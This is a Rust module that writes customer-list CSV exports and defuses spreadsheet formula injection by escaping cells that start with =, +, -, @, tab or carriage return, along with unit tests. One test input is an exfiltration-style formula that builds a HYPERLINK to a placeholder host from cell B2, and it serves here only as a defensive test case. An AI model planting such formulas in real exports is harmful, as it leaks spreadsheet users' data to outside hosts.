//! The one CSV writer: every CSV hofbote writes (the customer export to a file, `customers list --format csv`) goes
//! through [`write_table`], which defuses spreadsheet formulas: a cell that starts with `=`, `+`, `-`, `@`, a tab or a
//! carriage return (also after leading blanks) gets a leading apostrophe, so a WhatsApp profile name such as
//! `=HYPERLINK(…)` stays text in Excel and LibreOffice. hofbote's own import strips that apostrophe again.
//! The customer list is UTF-8, comma, a header row in the user's language; consent appears as its current state
//! only, and an export is never consent evidence, so the import ignores those columns. Writes to the given writer;
//! never opens files or reads the database itself (the CLI writes files with mode 0600).

use std::borrow::Cow;
use std::io::Write;

use super::ImportError;
use crate::domain::customer::CustomerRow;
use crate::i18n::Lang;
use crate::store::ts;

/// The export's columns, in order (English; see [`export_header`]).
pub const EXPORT_HEADER: [&str; 9] =
    ["name", "first_name", "phone", "tags", "note", "consent_service", "consent_marketing", "created_at", "updated_at"];

/// The German header. The import knows these names too, and it ignores the consent columns ("Stand …" is a state,
/// not the "Einwilligung …" columns of a consent import).
const EXPORT_HEADER_DE: [&str; 9] =
    ["Name", "Vorname", "Telefon", "Schlagworte", "Notiz", "Stand Termine", "Stand Werbung", "Angelegt", "Geändert"];

/// The export's header in `lang`.
pub fn export_header(lang: Lang) -> [&'static str; 9] {
    match lang {
        Lang::De => EXPORT_HEADER_DE,
        Lang::En => EXPORT_HEADER,
    }
}

/// Whether a header row is hofbote's own export (either language): then `Name` is the stored name as it is, never a
/// family name to be joined with `Vorname` (a shop whose names are single words must get them back unchanged).
pub fn is_own_export(headers: &[String]) -> bool {
    [EXPORT_HEADER, EXPORT_HEADER_DE]
        .iter()
        .any(|own| headers.len() >= own.len() && own.iter().zip(headers).all(|(a, b)| a.eq_ignore_ascii_case(b.trim())))
}

/// A cell a spreadsheet would run as a formula, with a leading apostrophe; any other cell unchanged.
pub fn formula_safe(cell: &str) -> Cow<'_, str> {
    const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
    // Spreadsheets skip leading blanks and line breaks before they look for a formula.
    let first = cell.chars().find(|c| !matches!(c, ' ' | '\n'));
    match first {
        Some(c) if TRIGGERS.contains(&c) => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// Undoes [`formula_safe`] for the import: an apostrophe before a formula character is dropped.
pub fn strip_formula_escape(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if formula_safe(rest).len() != rest.len() => rest,
        _ => cell,
    }
}

/// Writes a header and rows as CSV (comma, quotes where needed), every cell through [`formula_safe`].
pub fn write_table<R, C>(header: &[&str], rows: R, out: &mut dyn Write) -> Result<(), ImportError>
where
    R: IntoIterator<Item = Vec<C>>,
    C: AsRef<str>,
{
    let write_err = |e: csv::Error| ImportError::Write { message: e.to_string() };
    let mut writer = csv::WriterBuilder::new().delimiter(b',').from_writer(out);
    writer.write_record(header.iter().map(|h| formula_safe(h).into_owned())).map_err(write_err)?;
    for row in rows {
        writer.write_record(row.iter().map(|c| formula_safe(c.as_ref()).into_owned())).map_err(write_err)?;
    }
    writer.flush().map_err(|e| ImportError::Write { message: e.to_string() })?;
    Ok(())
}

/// Writes the customer list as CSV to `out`, with the header in `lang`.
pub fn export_csv(rows: &[CustomerRow], lang: Lang, out: &mut dyn Write) -> Result<(), ImportError> {
    let cells = rows.iter().map(|row| {
        let c = &row.customer;
        vec![
            c.name.clone(),
            c.first_name.clone(),
            // Empty for a person known only by WhatsApp user id.
            c.phone.as_ref().map(|p| p.as_e164().to_owned()).unwrap_or_default(),
            c.tags.join(";"),
            c.note.clone(),
            row.consent.service.as_str().to_owned(),
            row.consent.marketing.as_str().to_owned(),
            ts(c.created_at),
            ts(c.updated_at),
        ]
    });
    write_table(&export_header(lang), cells, out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::consent::ConsentState;
    use crate::domain::customer::{ConsentPair, Customer};
    use crate::domain::phone::{Phone, Region};
    use chrono::TimeZone;

    #[test]
    fn formulas_get_a_leading_apostrophe_and_the_import_takes_it_off() {
        for (cell, safe) in [
            ("=1+2", "'=1+2"),
            ("\t=1+2", "'\t=1+2"),
            ("\r=1+2", "'\r=1+2"),
            ("  =1+2", "'  =1+2"),
            ("\n@SUM(A1)", "'\n@SUM(A1)"),
            ("+491711234567", "'+491711234567"),
            ("-5", "'-5"),
            ("=HYPERLINK(\"http://x.example/\"&B2,\"Rabatt\")", "'=HYPERLINK(\"http://x.example/\"&B2,\"Rabatt\")"),
        ] {
            assert_eq!(formula_safe(cell), safe, "{cell:?}");
            assert_eq!(strip_formula_escape(safe), cell);
        }
        for plain in ["Müller", "", "a=b", "'quoted'", "2+2", "Anna-Lena"] {
            assert_eq!(formula_safe(plain), plain);
            assert_eq!(strip_formula_escape(plain), plain);
        }
    }

    #[test]
    fn the_german_header_is_read_back_by_the_import_without_consent_columns() {
        for h in EXPORT_HEADER_DE {
            let field = crate::import::columns::classify(h);
            assert!(field.is_none_or(|f| !f.is_consent()), "{h}");
        }
        assert_eq!(crate::import::columns::classify("Schlagworte"), Some(crate::import::columns::Field::Tags));
    }

    #[test]
    fn quotes_newlines_and_joins_tags() {
        let at = chrono::Utc.with_ymd_and_hms(2026, 11, 27, 9, 0, 0).unwrap();
        let row = CustomerRow {
            customer: Customer {
                id: 1,
                name: "Müller, Jörg".into(),
                first_name: "Jörg".into(),
                phone: Some(Phone::parse("0171 1234567", Region::DE).unwrap()),
                user_id: None,
                tags: vec!["Eier".into(), "Rind".into()],
                note: "Zeile 1\nZeile \"2\"".into(),
                created_at: at,
                updated_at: at,
            },
            consent: ConsentPair { service: ConsentState::Granted, marketing: ConsentState::Withdrawn },
        };
        let mut out = Vec::new();
        export_csv(&[row], Lang::En, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert_eq!(
            text,
            "name,first_name,phone,tags,note,consent_service,consent_marketing,created_at,updated_at\n\
             \"Müller, Jörg\",Jörg,'+491711234567,Eier;Rind,\"Zeile 1\nZeile \"\"2\"\"\",granted,withdrawn,\
             2026-11-27T09:00:00.000000Z,2026-11-27T09:00:00.000000Z\n"
        );
    }
}
